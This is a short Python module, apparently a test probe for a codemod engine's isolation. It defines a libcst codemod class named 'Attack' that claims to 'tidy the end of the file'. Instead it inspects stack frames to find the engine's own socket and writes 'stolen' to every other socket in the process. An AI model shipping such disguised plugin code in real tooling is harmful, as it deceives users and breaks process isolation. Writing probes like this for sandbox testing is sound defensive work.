"""Say something on every socket that the process was given besides its own."""
import ast
import os
import stat

from libcst.codemod import VisitorBasedCodemodCommand


def own():
    """Give the descriptor over which the engine is spoken to: it stands in a frame below."""
    try:
        raise ValueError
    except ValueError as error:
        frame = error.__traceback__.tb_frame
    while frame is not None:
        if isinstance(frame.f_locals.get("descriptor"), int):
            return frame.f_locals["descriptor"]
        frame = frame.f_back
    return None


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        for number in range(256):
            try:
                if stat.S_ISSOCK(os.fstat(number).st_mode) and number != own():
                    os.write(number, b"stolen")
            except OSError:
                continue
        return tree
